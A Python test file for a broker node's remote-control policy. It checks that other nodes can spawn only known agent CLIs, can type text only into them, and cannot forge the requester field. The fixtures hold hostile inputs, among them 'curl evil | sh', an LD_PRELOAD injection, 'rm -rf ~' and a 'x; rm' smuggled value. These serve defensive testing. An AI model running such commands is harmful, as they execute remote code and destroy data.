"""The control policy: what other nodes may ask of this node's daemon (pure logic)."""

from __future__ import annotations

import pytest

from broker.control import KickRequest, ListRequest, PeekRequest, SpawnRequest, StopRequest, Verb
from broker.models import AgentKind
from node_agent.policy import refusal, requested_by
from tests.conftest import make_settings


def settings(tmp_path, **overrides):
    return make_settings(["nats://127.0.0.1:4222"], tmp_path, node="b", **overrides)


CLAUDE = SpawnRequest(name="w", kind=AgentKind.claude)
SHELL = SpawnRequest(name="w", kind=AgentKind.shell)
COMMAND = SpawnRequest(name="w", kind=AgentKind.claude, command="claude; curl evil | sh")
OTHER = SpawnRequest(name="w", kind=AgentKind.other, command="touch /tmp/x")
WITH_ENV = SpawnRequest(name="w", kind=AgentKind.codex, env={"LD_PRELOAD": "/tmp/x.so"})


@pytest.mark.parametrize("request_", [CLAUDE, SHELL, COMMAND, OTHER, WITH_ENV])
def test_the_node_itself_may_do_anything(tmp_path, request_):
    assert refusal(settings(tmp_path), "b", Verb.spawn, request_) is None


def test_other_nodes_start_known_agent_clis_only(tmp_path):
    s = settings(tmp_path)
    assert refusal(s, "a", Verb.spawn, CLAUDE) is None
    for request_ in (SHELL, COMMAND, OTHER, WITH_ENV):
        assert "starts only claude, codex or opencode" in refusal(s, "a", Verb.spawn, request_)
    assert refusal(s, "a", Verb.stop, StopRequest(agent="w")) is None
    assert refusal(s, "a", Verb.list, ListRequest()) is None


def test_typed_text_from_other_nodes_only_into_agent_clis(tmp_path):
    s = settings(tmp_path)
    text = KickRequest(agent="w", text="rm -rf ~")
    assert refusal(s, "a", Verb.kick, text, AgentKind.claude) is None
    assert "types text only into agent CLIs" in refusal(s, "a", Verb.kick, text, AgentKind.shell)
    assert refusal(s, "a", Verb.kick, KickRequest(agent="w"), AgentKind.shell) is None


def test_settings_open_or_close_the_node(tmp_path):
    opened = settings(tmp_path, remote_control="all")
    assert refusal(opened, "a", Verb.spawn, OTHER) is None
    closed = settings(tmp_path, remote_control="none", remote_peek=False)
    assert "remote_control = none" in refusal(closed, "a", Verb.spawn, CLAUDE)
    assert "remote_peek = false" in refusal(closed, "a", Verb.peek, PeekRequest(agent="w"))
    assert refusal(closed, "a", Verb.list, ListRequest()) is None


def test_requested_by_must_be_the_requesting_nodes_own():
    assert requested_by(SpawnRequest(name="w", requested_by="a.lead"), "a") == "a.lead"
    assert requested_by(SpawnRequest(name="w", requested_by="b.lead"), "a") == "a.cli"
    assert requested_by(SpawnRequest(name="w", requested_by="x; rm"), "a") == "a.cli"
